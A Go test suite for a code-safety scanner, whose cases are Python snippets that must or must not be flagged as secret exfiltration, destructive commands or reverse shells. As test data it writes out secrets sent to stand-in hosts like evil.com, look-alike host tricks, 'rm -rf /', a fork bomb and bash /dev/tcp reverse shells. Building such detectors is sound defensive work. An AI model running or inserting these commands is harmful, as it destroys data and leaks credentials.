package main

import (
	"slices"
	"testing"

	"github.com/limitgraph/limit/sdk/governance"
)

// exemptionCase is a snippet and the finding it must (or must not) produce.
type exemptionCase struct {
	name, code string
	rule       string // "" for no finding at all
	line       int
}

// checkExemptions evaluates each case in-process: a benign case must have no finding; an
// attack must have its rule, flagged malicious with a severity the default policy blocks
// (≥5), on the line given.
func checkExemptions(t *testing.T, cases []exemptionCase) {
	t.Helper()
	r := configured(t, `{}`)
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			fs := evaluate(t, r, tt.code)
			if tt.rule == "" {
				if len(fs) != 0 {
					t.Fatalf("benign program flagged: %+v", fs)
				}
				return
			}
			i := slices.IndexFunc(fs, func(f governance.Finding) bool {
				return f.RuleID == tt.rule && f.Location != nil && f.Location.Line == tt.line
			})
			if i < 0 {
				t.Fatalf("no %s finding on line %d in %+v", tt.rule, tt.line, fs)
			}
			if f := fs[i]; f.Flag != "malicious" || f.Severity < 5 {
				t.Fatalf("finding %+v: want malicious with severity ≥5", f)
			}
		})
	}
}

// TestServiceAuthentication checks that a credential sent to the service it is named for,
// in the URL path, a credential query parameter, headers or basic auth, is not taken for
// exfiltration; and that the idioms of exfiltration through such a service still are.
func TestServiceAuthentication(t *testing.T) {
	const tg = "import os, requests\nT = os.environ['TELEGRAM_BOT_TOKEN']\n"
	checkExemptions(t, []exemptionCase{
		// Authentication to the credential's own service.
		{"telegram token in the path", tg + "requests.get(f'https://api.telegram.org/bot{T}/sendMessage', params={'chat_id': 1, 'text': 'done'})\n", "", 0},
		{"telegram URL in a constant", tg + "API = f'https://api.telegram.org/bot{T}'\nrequests.post(API + '/sendMessage', data={'chat_id': 1, 'text': 'done'})\n", "", 0},
		{"BOT_TOKEN to telegram", "import os, requests\nt = os.getenv('BOT_TOKEN')\nrequests.post('https://api.telegram.org/bot' + t + '/getMe')\n", "", 0},
		{"jira basic auth", "import os, requests\na = ('me@example.com', os.environ['JIRA_API_TOKEN'])\nrequests.get('https://acme.atlassian.net/rest/api/3/myself', auth=a)\n", "", 0},
		{"slack bot token header", "import os, requests\nt = os.environ['SLACK_BOT_TOKEN']\nrequests.post('https://slack.com/api/chat.postMessage', headers={'Authorization': f'Bearer {t}'}, json={'text': 'hi'})\n", "", 0},
		{"GH_TOKEN header", "import os, requests\nh = {'Authorization': 'token ' + os.environ['GH_TOKEN']}\nrequests.get('https://api.github.com/user', headers=h)\n", "", 0},
		{"stripe key as basic auth", "import os, requests\nrequests.get('https://api.stripe.com/v1/charges', auth=(os.environ['STRIPE_SECRET_KEY'], ''))\n", "", 0},
		{"key as a query parameter", "import os, requests\nk = os.environ['HF_TOKEN']\nrequests.get(f'https://huggingface.co/api/whoami-v2?token={k}')\n", "", 0},
		{"key in params=", "import os, requests\nk = os.environ['DISCORD_TOKEN']\nrequests.get('https://discord.com/api/v10/users/@me', params={'token': k})\n", "", 0},
		// Another credential sent through the service: the bot token authenticates, the
		// message carries the secret.
		{"AWS secret as the telegram message", tg + "requests.get(f'https://api.telegram.org/bot{T}/sendMessage', params={'chat_id': 1, 'text': os.environ['AWS_SECRET_ACCESS_KEY']})\n", "codesafety.exfiltration", 3},
		{"OpenAI key in the message body", tg + "k = os.environ['OPENAI_API_KEY']\nrequests.post(f'https://api.telegram.org/bot{T}/sendMessage', json={'chat_id': 1, 'text': k})\n", "codesafety.exfiltration", 4},
		{"whole environment as the message", tg + "requests.post(f'https://api.telegram.org/bot{T}/sendMessage', data={'chat_id': 1, 'text': str(dict(os.environ))})\n", "codesafety.exfiltration", 3},
		{"secret in the message query", tg + "k = os.environ['OPENAI_API_KEY']\nrequests.get(f'https://api.telegram.org/bot{T}/sendMessage?chat_id=1&text={k}')\n", "codesafety.exfiltration", 4},
		{"secret in the path beside the token", tg + "k = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.get(f'https://api.telegram.org/bot{T}/{k}')\n", "codesafety.exfiltration", 4},
		{"telegram token as the message", tg + "requests.get(f'https://api.telegram.org/bot{T}/sendMessage', params={'chat_id': 1, 'text': T})\n", "codesafety.exfiltration", 3},
		{"message added to params later", tg + "p = {'chat_id': 1}\np['text'] = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.get(f'https://api.telegram.org/bot{T}/sendMessage', params=p)\n", "codesafety.exfiltration", 5},
		{"AWS key as a credential parameter", "import os, requests\nk = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.get(f'https://api.telegram.org/bot?token={k}')\n", "codesafety.exfiltration", 3},
		// The token sent to a host that is not its service's.
		{"telegram token to another host", tg + "requests.get(f'https://collect.example/bot{T}/sendMessage')\n", "codesafety.exfiltration", 3},
		{"host with the service as prefix", tg + "requests.get(f'https://api.telegram.org.evil.com/bot{T}/sendMessage')\n", "codesafety.exfiltration", 3},
		{"service as user info", tg + "requests.get(f'https://api.telegram.org@evil.com/bot{T}/x')\n", "codesafety.exfiltration", 3},
		{"service as user info, short", tg + "requests.get(f'https://telegram.org@evil.com/bot{T}/x')\n", "codesafety.exfiltration", 3},
		{"service in the path", tg + "requests.get(f'https://evil.com/api.telegram.org/bot{T}/x')\n", "codesafety.exfiltration", 3},
		{"host after the token", tg + "requests.get(f'https://{T}.api.telegram.org/x')\n", "codesafety.exfiltration", 3},
		{"plain http", tg + "requests.get(f'http://api.telegram.org/bot{T}/getMe')\n", "codesafety.exfiltration", 3},
		{"host not literal", tg + "h = input()\nrequests.get(f'https://{h}/bot{T}/getMe')\n", "codesafety.exfiltration", 4},
		{"jira token to a look-alike", "import os, requests\na = ('me', os.environ['JIRA_API_TOKEN'])\nrequests.get('https://acme.atlassian.net.evil.com/rest', auth=a)\n", "codesafety.exfiltration", 3},
		{"jira token to another domain", "import os, requests\na = ('me', os.environ['JIRA_API_TOKEN'])\nrequests.get('https://evilatlassian.net/rest', auth=a)\n", "codesafety.exfiltration", 3},
		// http.client and urllib3: the host is the connection's, the request's method first.
		{"http.client token header to its API", "import http.client, os\nc = http.client.HTTPSConnection('api.github.com')\nc.request('GET', '/user', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})\n", "", 0},
		{"http.client headers positional", "import http.client, os\nc = http.client.HTTPSConnection('api.github.com')\nc.request('GET', '/user', None, {'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})\n", "", 0},
		{"http.client putheader to its API", "from http.client import HTTPSConnection\nimport os\nc = HTTPSConnection('api.openai.com')\nc.putheader('Authorization', 'Bearer ' + os.environ['OPENAI_API_KEY'])\n", "", 0},
		{"urllib3 token header to its API", "import urllib3, os\nhttp = urllib3.PoolManager()\nhttp.request('GET', 'https://api.github.com/user', headers={'Authorization': os.environ['GITHUB_TOKEN']})\n", "", 0},
		{"http.client token in the body to its API", "import http.client, os\nc = http.client.HTTPSConnection('api.github.com')\nc.request('POST', '/gists', body=os.environ['GITHUB_TOKEN'])\n", "codesafety.exfiltration", 3},
		{"http.client token over plain http", "import http.client, os\nc = http.client.HTTPConnection('api.github.com')\nc.request('GET', '/user', headers={'Authorization': os.environ['GITHUB_TOKEN']})\n", "codesafety.exfiltration", 3},
		{"http.client in a with, body positional", "import http.client, os\nwith http.client.HTTPSConnection('evil.example') as c:\n    c.request('POST', '/', os.environ['AWS_SECRET_ACCESS_KEY'])\n", "codesafety.exfiltration", 3},
		// A header to another literal https host is a note, not exfiltration: see
		// TestCredentialsSent.
		{"urllib3 secret in the body", "import urllib3, os\nhttp = urllib3.PoolManager()\nhttp.request('POST', 'https://evil.example/x', body=os.environ['AWS_SECRET_ACCESS_KEY'])\n", "codesafety.exfiltration", 3},
		{"requests session params to another host", "import requests, os\ns = requests.Session()\ns.get('https://evil.example/', params={'q': os.environ['AWS_SECRET_ACCESS_KEY']})\n", "codesafety.exfiltration", 3},
		{"slack token to telegram", "import os, requests\nt = os.environ['SLACK_BOT_TOKEN']\nrequests.get(f'https://api.telegram.org/bot{t}/getMe')\n", "codesafety.exfiltration", 3},
	})
}

// TestCommandsAsData checks that destructive or reverse-shell commands held as data (a
// deny list that is only compared, matched or printed) are not reported; and that a
// command list that reaches anything that may run it still is.
func TestCommandsAsData(t *testing.T) {
	const deny = "BLOCKED = ['rm -rf /', 'mkfs.ext4 /dev/sda', ':(){ :|:& };:']\n"
	const cmds = "import os, subprocess\nCMDS = ['rm -rf /', 'echo done']\n"
	checkExemptions(t, []exemptionCase{
		// Data: compared, matched, printed.
		{"membership", deny + "def ok(cmd):\n    return cmd not in BLOCKED\n", "", 0},
		{"any substring", deny + "def ok(cmd):\n    return not any(b in cmd for b in BLOCKED)\n", "", 0},
		{"startswith a tuple", deny + "def ok(cmd):\n    return not cmd.strip().startswith(tuple(BLOCKED))\n", "", 0},
		{"map of startswith", deny + "def ok(cmd):\n    return not any(map(cmd.startswith, BLOCKED))\n", "", 0},
		{"regex of the list", "import re\nDENY = ['rm -rf /', 'rm -rf ~']\nRX = re.compile('|'.join(re.escape(d) for d in DENY))\ndef ok(cmd):\n    if RX.search(cmd):\n        raise PermissionError(cmd)\n    return True\n", "", 0},
		{"printed", deny + "for b in BLOCKED:\n    print('never run', b)\n", "", 0},
		{"a frozenset of it", deny + "S = frozenset(BLOCKED)\ndef ok(c):\n    return c not in S\n", "", 0},
		{"class attribute", "class Guard:\n    DENY = ('rm -rf /', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n    def ok(self, cmd):\n        return all(d not in cmd for d in self.DENY)\n", "", 0},
		{"dict of reasons, logged", "import logging\nWHY = {'rm -rf /': 'wipes the disk'}\ndef why(cmd):\n    for p, r in WHY.items():\n        if p in cmd:\n            logging.warning('blocked %s: %s', cmd, r)\n    return None\n", "", 0},
		{"passed to a checking function", deny + "def listed(cmd, deny):\n    return any(d in cmd for d in deny)\nprint(listed('ls', BLOCKED))\n", "", 0},
		{"match statement", "def ok(cmd):\n    match cmd:\n        case 'rm -rf /':\n            return False\n    return True\n", "", 0},
		// Run: each keeps its finding on the literal's line.
		{"loop of os.system", cmds + "for c in CMDS:\n    os.system(c)\n", "codesafety.destructive", 2},
		{"item with shell=True", cmds + "subprocess.run(CMDS[0], shell=True)\n", "codesafety.destructive", 2},
		{"joined for a shell", cmds + "os.system(' && '.join(CMDS))\n", "codesafety.destructive", 2},
		{"passed to a function that runs it", cmds + "def run_all(cs):\n    for c in cs:\n        subprocess.call(c, shell=True)\nrun_all(CMDS)\n", "codesafety.destructive", 2},
		{"passed to a method that runs it", cmds + "class R:\n    def go(self, cs):\n        for c in cs:\n            os.popen(c)\nR().go(CMDS)\n", "codesafety.destructive", 2},
		{"passed to an unknown function", cmds + "import runner\nrunner.run_all(CMDS)\n", "codesafety.destructive", 2},
		{"literal in the call", "import os\nos.system('rm -rf / --no-preserve-root')\n", "codesafety.destructive", 2},
		{"map of os.system", cmds + "list(map(os.system, CMDS))\n", "codesafety.destructive", 2},
		{"comprehension", cmds + "[os.system(c) for c in CMDS]\n", "codesafety.destructive", 2},
		{"loop variable after the loop", cmds + "for c in CMDS:\n    pass\nos.system(c)\n", "codesafety.destructive", 2},
		{"compared, then run", cmds + "if 'ls' not in CMDS:\n    os.system(CMDS[0])\n", "codesafety.destructive", 2},
		{"returned, then run", "import os\ndef cmds():\n    return ['rm -rf /']\nos.system(cmds()[0])\n", "codesafety.destructive", 3},
		{"through a regex match", cmds + "import re\nm = re.compile('.*').search(CMDS[0])\nos.system(m.group())\n", "codesafety.destructive", 2},
		{"copied into another list", cmds + "q = []\nq.extend(CMDS)\nos.system(q[0])\n", "codesafety.destructive", 2},
		{"dict keys", cmds + "d = {}\nfor c in CMDS:\n    d[c] = 1\nfor k in d:\n    os.system(k)\n", "codesafety.destructive", 2},
		{"written to a script", "CMDS = ['rm -rf /']\nwith open('x.sh', 'w') as f:\n    for c in CMDS:\n        print(c, file=f)\n", "codesafety.destructive", 1},
		{"exec of a list item", "C = [\"__import__('os').system('rm -rf /')\"]\nexec(C[0])\n", "codesafety.destructive", 1},
		{"pty.spawn", "import pty\nC = ('rm -rf /',)\npty.spawn(['sh', '-c', C[0]])\n", "codesafety.destructive", 2},
		{"own method named like a test", cmds + "class X:\n    def startswith(self, c):\n        os.system(c)\nX().startswith(CMDS[0])\n", "codesafety.destructive", 2},
		{"reached through globals()", cmds + "if 'x' in CMDS:\n    pass\nos.system(globals()['CMDS'][0])\n", "codesafety.destructive", 2},
		{"reached through __main__", cmds + "import __main__\nif 'x' in CMDS:\n    pass\nos.system(__main__.CMDS[0])\n", "codesafety.destructive", 2},
		{"never used", "WIPE = 'rm -rf /'\n", "codesafety.destructive", 1},
		{"reverse shell run from a list", "import subprocess\nR = ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1']\nsubprocess.Popen(R[0], shell=True)\n", "codesafety.reverse-shell", 2},
	})
}

// TestCommandsAsDataHooks checks that a command string's "data" use does not exempt it
// when the module itself defines what that use runs: an exception class of its own whose
// constructor runs its argument, a __getitem__, __missing__ or comparison method that
// runs the key or operand, output redirected to a shell so that print or logging writes
// into it, or the value read back under another name (from __main__, the module's source).
func TestCommandsAsDataHooks(t *testing.T) {
	checkExemptions(t, []exemptionCase{
		{"own exception class runs it", "import os\nclass RunError(Exception):\n    def __init__(self, c):\n        os.system(c)\nraise RunError('rm -rf / --no-preserve-root')\n", "codesafety.destructive", 5},
		{"own exception base runs it", "import os\nclass B(Exception):\n    def __init__(self, c):\n        os.system(c)\nclass RunError(B):\n    pass\nRunError('rm -rf /')\n", "codesafety.destructive", 7},
		{"__getitem__ runs the key", "import os\nclass R:\n    def __getitem__(self, k):\n        os.system(k)\nR()['rm -rf /']\n", "codesafety.destructive", 5},
		{"__missing__ runs the key", "import os\nclass D(dict):\n    def __missing__(self, k):\n        os.system(k)\n        return 1\nD()['rm -rf /']\n", "codesafety.destructive", 6},
		{"__eq__ runs the operand", "import os\nclass R:\n    def __eq__(self, k):\n        os.system(k)\n        return True\nC = ['rm -rf /']\nR() == C[0]\n", "codesafety.destructive", 6},
		{"__contains__ runs the operand", "import os\nclass R:\n    def __contains__(self, k):\n        os.system(k)\n        return True\nC = ['rm -rf /']\nif C[0] in R():\n    pass\n", "codesafety.destructive", 6},
		{"from __main__ import", "import os\nCMDS = ['rm -rf /']\nif 'x' in CMDS:\n    pass\nfrom __main__ import CMDS as X\nos.system(X[0])\n", "codesafety.destructive", 2},
		{"own source read back", "import os\nB = ['rm -rf /']\nprint(B)\nsrc = open(__file__).read()\nos.system(src.split(\"'\")[1])\n", "codesafety.destructive", 2},
		{"print into a shell", "import sys, subprocess\np = subprocess.Popen(['sh'], stdin=subprocess.PIPE, text=True)\nsys.stdout = p.stdin\nprint('rm -rf / --no-preserve-root')\n", "codesafety.destructive", 4},
		{"logging into a shell", "import logging, subprocess\np = subprocess.Popen(['sh'], stdin=subprocess.PIPE, text=True)\nlogging.basicConfig(stream=p.stdin, format='%(message)s')\nlogging.warning('rm -rf / --no-preserve-root')\n", "codesafety.destructive", 4},
		{"log handler runs it", "import logging, os\nclass H(logging.Handler):\n    def emit(self, r):\n        os.system(r.getMessage())\nlogging.getLogger().addHandler(H())\nlogging.warning('rm -rf /')\n", "codesafety.destructive", 6},
		// Methods assigned rather than defined, a metaclass, the class under another name.
		{"lambda __init__ in the class body", "import os\nclass RunError(Exception):\n    __init__ = lambda self, c: os.system(c)\nraise RunError('rm -rf / --no-preserve-root')\n", "codesafety.destructive", 4},
		{"__init__ assigned to the class", "import os\nclass RunError(Exception):\n    pass\nRunError.__init__ = lambda self, c: os.system(c)\nraise RunError('rm -rf / --no-preserve-root')\n", "codesafety.destructive", 5},
		{"lambda __getitem__ in the class body", "import os\nclass R:\n    __getitem__ = lambda self, k: os.system(k)\nR()['rm -rf /']\n", "codesafety.destructive", 4},
		{"lambda __eq__ in the class body", "import os\nclass R:\n    __eq__ = lambda self, k: os.system(k)\nC = ['rm -rf /']\nR() == C[0]\n", "codesafety.destructive", 4},
		{"metaclass runs it", "import os\nclass M(type):\n    def __call__(cls, c):\n        os.system(c)\nclass RunError(Exception, metaclass=M):\n    pass\nraise RunError('rm -rf / --no-preserve-root')\n", "codesafety.destructive", 7},
		{"exception class aliased", "import os\nclass B(Exception):\n    def __init__(self, c):\n        os.system(c)\nRunError = B\nraise RunError('rm -rf /')\n", "codesafety.destructive", 6},
		// Still data: an exception class without methods, a plain comparison.
		{"plain exception class", "class RefusedError(Exception):\n    pass\ndef check(cmd):\n    if cmd == 'rm -rf /':\n        raise RefusedError('rm -rf / is refused')\n", "", 0},
	})
}

// TestServiceAuthenticationMutatedParams checks that a params= dict changed other than by
// an item assignment (update, setdefault, an alias), or a credential's default read from
// another variable, is not taken for authentication to the credential's service.
func TestServiceAuthenticationMutatedParams(t *testing.T) {
	const tg = "import os, requests\nT = os.environ['TELEGRAM_BOT_TOKEN']\nA = os.environ['AWS_SECRET_ACCESS_KEY']\n"
	const send = "requests.get(f'https://api.telegram.org/bot{T}/sendMessage', params=p)\n"
	checkExemptions(t, []exemptionCase{
		{"params updated", tg + "p = {'token': T}\np.update(text=A)\n" + send, "codesafety.exfiltration", 6},
		{"params updated from a dict", tg + "p = {'token': T}\np.update({'text': A})\n" + send, "codesafety.exfiltration", 6},
		{"params setdefault", tg + "p = {'token': T}\np.setdefault('text', A)\n" + send, "codesafety.exfiltration", 6},
		{"params through an alias", tg + "p = {'token': T}\nq = p\nq['text'] = A\n" + send, "codesafety.exfiltration", 7},
		{"another secret as the default", tg + "requests.get(f\"https://api.telegram.org/bot{os.getenv('TELEGRAM_BOT_TOKEN', A)}/getMe\")\n", "codesafety.exfiltration", 4},
		// Still authentication: the dict only read as params= and for its items.
		{"params read", tg + "p = {'token': T, 'chat_id': 1}\nif p['chat_id']:\n    " + send, "", 0},
	})
}

// TestCommandsAsDocsAndTables checks that command strings held only to be shown are not
// reported: an option's help= or a parser's description=, a DataFrame, a table or a dict
// of them printed (pandas, tabulate, pprint); and that the same values still are when
// they reach something that runs them (an option's default=, a DataFrame's column run,
// a help= given to a function of the code's that runs it, printed help into a shell).
func TestCommandsAsDocsAndTables(t *testing.T) {
	const rows = "[{'name': 'wipe', 'cmd': 'rm -rf /'}, {'name': 'rs', 'cmd': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'}]"
	checkExemptions(t, []exemptionCase{
		{"argparse help", "import argparse\np = argparse.ArgumentParser(description='cleanup; never rm -rf / here')\np.add_argument('--cmd', help='runs rm -rf / on the target')\na = p.parse_args()\nprint(a.cmd)\n", "", 0},
		{"click help", "import click\n@click.command(help='wipes with rm -rf / when forced')\n@click.option('--force', is_flag=True, help='really rm -rf / everything')\ndef main(force):\n    click.echo('ok')\n", "", 0},
		{"DataFrame printed", "import pandas as pd\ndf = pd.DataFrame(" + rows + ")\nprint(df)\nprint(df.head().to_string())\nfor _, row in df.iterrows():\n    print(row['cmd'])\nprint(df.loc[0, 'cmd'])\n", "", 0},
		{"tabulate", "from tabulate import tabulate\nrows = [['wipe', 'rm -rf /'], ['bomb', ':(){ :|:& };:']]\nprint(tabulate(rows, headers=['name', 'cmd']))\n", "", 0},
		{"pprint of a dict", "import pprint\nCMDS = {'wipe': 'rm -rf /', 'disk': 'mkfs.ext4 /dev/sda1'}\npprint.pprint(CMDS)\n", "", 0},
		{"docstring and comment", "def f():\n    \"\"\"Never do rm -rf / in production.\"\"\"\n    return 1  # rm -rf /\nprint(f())\n", "", 0},
		{"rich console", "from rich.console import Console\nc = Console()\nc.print('never run rm -rf /')\n", "", 0},
		// Run: each keeps its finding.
		{"option default run", "import argparse, os\np = argparse.ArgumentParser()\np.add_argument('--cmd', default='rm -rf /', help='command')\na = p.parse_args()\nos.system(a.cmd)\n", "codesafety.destructive", 3},
		{"DataFrame column run", "import pandas as pd, os\ndf = pd.DataFrame(" + rows + ")\nfor c in df['cmd']:\n    os.system(c)\n", "codesafety.destructive", 2},
		{"DataFrame cell run", "import pandas as pd, subprocess\ndf = pd.DataFrame(" + rows + ")\nsubprocess.run(df.loc[0, 'cmd'], shell=True)\n", "codesafety.destructive", 2},
		{"help= to a function that runs it", "import os\ndef add(help):\n    os.system(help)\nadd(help='rm -rf /')\n", "codesafety.destructive", 4},
		{"help printed into a shell", "import argparse, subprocess, sys\nsh = subprocess.Popen(['sh'], stdin=subprocess.PIPE, text=True)\nsys.stdout = sh.stdin\np = argparse.ArgumentParser(description='rm -rf / --no-preserve-root')\np.print_help()\n", "codesafety.destructive", 4},
	})
}
